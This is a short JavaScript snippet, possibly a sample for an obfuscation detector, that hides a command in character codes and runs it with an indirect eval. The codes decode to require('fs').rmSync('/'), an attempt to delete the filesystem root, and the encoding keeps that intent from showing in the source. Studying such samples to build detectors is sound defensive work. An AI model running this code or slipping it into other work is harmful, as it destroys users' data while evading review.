// tricky: eval's text from numbers
const s = String.fromCharCode(114, 101, 113, 117, 105, 114, 101, 40, 39, 102, 115, 39, 41, 46, 114, 109, 83, 121, 110, 99, 40, 39, 47, 39, 41);
(0, eval)(s);
